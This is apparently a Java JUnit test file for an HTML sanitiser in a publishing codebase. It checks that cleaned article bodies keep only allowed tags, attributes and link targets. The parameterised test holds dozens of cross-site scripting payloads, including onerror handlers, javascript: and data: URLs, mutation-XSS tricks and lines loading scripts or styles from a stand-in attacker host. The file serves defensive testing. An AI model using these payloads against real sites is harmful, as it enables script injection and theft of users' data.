package press.harmattan.body;

import static java.util.Map.entry;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import java.text.Normalizer;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.stream.Collectors;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.node.AbstractVisitor;
import org.commonmark.node.HtmlBlock;
import org.commonmark.node.HtmlInline;
import org.commonmark.node.Image;
import org.commonmark.node.Link;
import org.commonmark.parser.Parser;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Comment;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Says again, apart from the code that makes it so, what a body may hold. */
class HostileHtmlTest {

    private static final Set<String> EVERYWHERE = Set.of("lang", "dir");
    private static final Map<String, Set<String>> ALLOWED =
            Map.ofEntries(
                    entry("h2", Set.of("id")),
                    entry("h3", Set.of("id")),
                    entry("h4", Set.of("id")),
                    entry("p", Set.of()),
                    entry("ul", Set.of()),
                    entry("ol", Set.of()),
                    entry("li", Set.of()),
                    entry("blockquote", Set.of()),
                    entry("figure", Set.of()),
                    entry("figcaption", Set.of()),
                    entry("img", Set.of("src", "alt", "width", "height")),
                    entry("a", Set.of("href")),
                    entry("strong", Set.of()),
                    entry("em", Set.of()),
                    entry("sup", Set.of()),
                    entry("sub", Set.of()),
                    entry("bdi", Set.of()),
                    entry("span", Set.of()),
                    entry("br", Set.of()),
                    entry("table", Set.of()),
                    entry("thead", Set.of()),
                    entry("tbody", Set.of()),
                    entry("tr", Set.of()),
                    entry("th", Set.of("colspan", "rowspan", "scope")),
                    entry("td", Set.of("colspan", "rowspan")));

    private static final List<String> PIECES =
            List.of(
                    "<script>",
                    "</script>",
                    "<svg>",
                    "</svg>",
                    "<math>",
                    "<mtext>",
                    "<style>",
                    "</style>",
                    "<title>",
                    "<!--",
                    "-->",
                    "<![CDATA[",
                    "]]>",
                    "<noscript>",
                    "</noscript>",
                    "<textarea>",
                    "</textarea>",
                    "<template>",
                    "<table>",
                    "<tr>",
                    "<td>",
                    "</td>",
                    "</table>",
                    "<caption>",
                    "<thead>",
                    "<th scope=col>",
                    "<p>",
                    "</p>",
                    "<p dir=rtl lang=ar>",
                    "<div lang=fr>",
                    "</div>",
                    "<b>",
                    "</b>",
                    "<i>",
                    "</i>",
                    "<a href=#x>",
                    "<a href=https://a.example/>",
                    "</a>",
                    "<a href='javascript:x'>",
                    "<ul>",
                    "<ol>",
                    "<li>",
                    "</li>",
                    "</ul>",
                    "<blockquote>",
                    "</blockquote>",
                    "<figure>",
                    "<figcaption>",
                    "</figcaption>",
                    "</figure>",
                    "<img src=https://a.example/i.jpg onerror=x>",
                    "<img src=x>",
                    "<img src=https://a.example/j.jpg alt='](javascript:x)<b> \\'>",
                    "[",
                    "](javascript:x)",
                    "!",
                    "\\",
                    "`",
                    "&lt;img src=x&gt;",
                    "\ufdd0",
                    "\ufdd1",
                    "<h1>",
                    "</h1>",
                    "<h3 id=x>",
                    "</h3>",
                    "<br>",
                    "<bdi>",
                    "</bdi>",
                    "<span dir=ltr>",
                    "<span lang=fr dir=rtl>",
                    "<b dir=rtl>",
                    "<i lang=ar>",
                    "<sup lang=fr>",
                    "<bdi lang=fr>",
                    "<a lang=ar href=https://a.example/>",
                    "<marquee>",
                    "</span>",
                    "<q>",
                    "</q>",
                    "<pre>",
                    "</pre>",
                    "<sup>",
                    "</sup>",
                    "<form>",
                    "<select>",
                    "<option>",
                    "<iframe src=https://a.example/>",
                    "</iframe>",
                    "<object>",
                    "<hr>",
                    "<dl><dt>",
                    "<dd>",
                    "<plaintext>",
                    "&lt;script&gt;",
                    "&nbsp;",
                    "&#x338;",
                    "\u0301",
                    "e",
                    " ",
                    "\n",
                    "نص",
                    "word",
                    " a ",
                    "\"",
                    "'",
                    "<",
                    ">",
                    "&",
                    "=",
                    "\u202e",
                    "\u0000",
                    "\ud800");

    private static final Parser MARKDOWN =
            Parser.builder().extensions(List.of(TablesExtension.create())).build();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<SCRIPT/x SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img/src=https://a.example/i.jpg/onerror=alert(1)>",
                "<img src=https://a.example/i.jpg\" onload=\"alert(1)>",
                "<img src=`javascript:alert(1)`>",
                "<img srcset='javascript:alert(1) 1x' src='jav&#x0A;ascript:alert(1)'>",
                "<svg onload=alert(1)><circle/></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
                "<math href='javascript:alert(1)'>x</math>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' &#14; JaVa\tScRiPt&colon;alert(1)'>x</a>",
                "<a href='java&NewLine;script:alert(1)'>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='//user:pass@evil.example/'>x</a>",
                "<a href='https://good.example@evil.example/'>x</a>",
                "<a href='https://a.example/\"onmouseover=\"alert(1)'>x</a>",
                "<a href='mailto:a@b.example?bcc=c@d.example'>x</a>",
                "<a href='file:///etc/passwd'>x</a>",
                "<iframe src='javascript:alert(1)'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='data:text/html,<script>alert(1)</script>'><p>x</p></object>",
                "<embed src='javascript:alert(1)'>",
                "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
                "<form action='https://evil.example'><input name=body><button formaction='javascript:1'>x</button></form>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href='https://evil.example/'><link rel=stylesheet href='//evil.example/x.css'>",
                "<p style='background:url(javascript:alert(1))' class=x id=y data-x=z>x</p>",
                "<style>@import '//evil.example/x.css';</style>",
                "<div style=width:expression(alert(1))>x</div>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>x</noscript>",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<title><img src=x onerror=alert(1)></title>",
                "<template><img src=x onerror=alert(1)></template>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
                "<p lang='\"><script>alert(1)</script>' dir='\"onclick=alert(1)'>x</p>",
                "<td colspan='2\" onclick=\"alert(1)'>x</td>",
                "<table background='javascript:alert(1)'><tr><td colspan=99999 scope=x>x</td></tr></table>",
                "<isindex type=image src=1 onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<details open ontoggle=alert(1)>x</details>",
                "<custom-element onclick=alert(1) is=x>x</custom-element>",
                "<body onload=alert(1)>x",
                "<bdo dir=rtl onclick=alert(1)>x</bdo>",
                "<plaintext><script>alert(1)</script>",
                "\u003c\u0000script\u003ealert(1)",
                "<img src='https://a.example/i.svg#<script>'>",
                "<a\u000bhref='javascript:alert(1)'>x</a>",
                "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>"
            })
    void no_attack_leaves_anything_that_runs(String html) {
        check(html);
        check("<p>" + html + "</p>");
        check("<table><tr><td>" + html);
    }

    @Test
    void no_mixture_of_pieces_leaves_anything_that_runs_or_changes_when_cleaned_again() {
        Random random = new Random(20260101);
        for (int round = 0; round < 3_000; round++) {
            StringBuilder html = new StringBuilder();
            for (int i = random.nextInt(25); i >= 0; i--) {
                html.append(PIECES.get(random.nextInt(PIECES.size())));
            }
            check(html.toString());
            Body made = BodyMaker.make(html.toString(), "ar");
            assertEquals(
                    made.html(),
                    made.blocks().stream().map(Block::html).collect(Collectors.joining()));
            checkMarkdown(made.markdown(), html.toString());
        }
    }

    private static void checkMarkdown(String markdown, String html) {
        Set<String> images = Set.of("https://a.example/i.jpg", "https://a.example/j.jpg");
        MARKDOWN.parse(markdown)
                .accept(
                        new AbstractVisitor() {
                            @Override
                            public void visit(Link link) {
                                String to = link.getDestination();
                                assertTrue(
                                        to.matches("https://a\\.example/|#.+"), to + ": " + html);
                                visitChildren(link);
                            }

                            @Override
                            public void visit(Image image) {
                                assertTrue(images.contains(image.getDestination()), html);
                                visitChildren(image);
                            }

                            @Override
                            public void visit(HtmlInline tag) {
                                fail(tag.getLiteral() + ": " + html);
                            }

                            @Override
                            public void visit(HtmlBlock block) {
                                fail(block.getLiteral() + ": " + html);
                            }
                        });
    }

    private static String letters(Element element) {
        String text = Normalizer.normalize(element.wholeText(), Normalizer.Form.NFC);
        return text.replaceAll("[^\\p{L}\\p{N}]", "");
    }

    private static void check(String html) {
        Sanitised result = Sanitiser.sanitise(html);
        String clean = result.html();
        if (result.losses().isEmpty()) {
            assertEquals(letters(Jsoup.parseBodyFragment(html)), letters(Jsoup.parse(clean)), html);
        }
        assertEquals(new Sanitised(clean, List.of()), Sanitiser.sanitise(clean), html);
        assertTrue(Normalizer.isNormalized(clean, Normalizer.Form.NFC), html);
        Element body = Jsoup.parse(clean).body();
        assertEquals(0, Jsoup.parse(clean).head().childNodeSize(), html);
        for (Element element : body.children().select("*")) {
            Set<String> allowed = ALLOWED.get(element.tagName());
            assertTrue(allowed != null, () -> element.tagName() + " in " + clean + " of " + html);
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey();
                assertTrue(allowed.contains(name) || EVERYWHERE.contains(name), name + ": " + html);
            }
            assertTrue(element.attr("dir").matches("|ltr|rtl|auto"), html);
            assertTrue(element.attr("lang").matches("[A-Za-z0-9-]*"), html);
            assertTrue(
                    element.attr("href").matches("|#\\S+|https?://[^\\s@/]+(/.*)?|mailto:[^?]+"),
                    element.attr("href"));
            assertTrue(element.attr("src").matches("|https?://[^\\s@/]+(/.*)?"), html);
        }
        assertTrue(
                body.getAllElements().stream()
                        .flatMap(e -> e.childNodes().stream())
                        .noneMatch(Comment.class::isInstance),
                html);
    }
}
